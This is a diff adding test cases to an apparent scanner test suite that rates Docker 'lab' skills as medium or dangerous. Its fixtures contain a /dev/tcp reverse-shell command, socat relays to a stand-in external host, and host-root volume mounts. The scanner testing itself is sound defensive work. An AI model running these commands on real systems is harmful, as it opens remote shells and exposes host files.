@@ -334,4 +334,17 @@ describe('g7b: red-team r7 fixes', () => {
       ]) expect(verdict(skill(line + '\n\n' + push)), line).toBe('dangerous')
     })
   })
+
+  describe('r7-22, r7-02, r7-03, r7-04: a container lab judged container by container', () => {
+    const lab = (shellFlags: string, peerFlags = '', peerCmd = 'sleep infinity') =>
+      skill(fence('bash', `docker run -d --name web ${shellFlags} juice/shop:latest\ndocker run -d --name catch ${peerFlags} alpine ${peerCmd}\ndocker exec web sh -c 'sh -i >& /dev/tcp/catch/5555 0>&1'`))
+    it('a port the shell container publishes, or a peer bound to the loopback address, keeps the lab listed', () => {
+      for (const [a, b] of [['-p 3000:3000', ''], ['-dp 3000:3000', ''], ['', '-p 127.0.0.1:5555:5555']])
+        expect(strongest(lab(a!, b), 'net-reverse-shell-devtcp'), a! + b).toBe('medium')
+    })
+    it('a host path however the flag is written, another container\'s volumes, a published peer, or a relaying peer: refused', () => {
+      for (const [a, b, c] of [['-v/etc:/h'], ['-dv /:/h'], ['--volume=/home:/h'], ['--volumes-from agent'], ['', '-p 5555:5555'], ['', '', 'alpine/socat tcp-listen:5555,fork tcp:collect.badhost.io:443'], ['', '', 'socat tcp-listen:5555 tcp:198.51.100.4:80']])
+        expect(verdict(lab(a!, b ?? '', c)), [a, b, c].join(' ')).toBe('dangerous')
+    })
+  })
 })
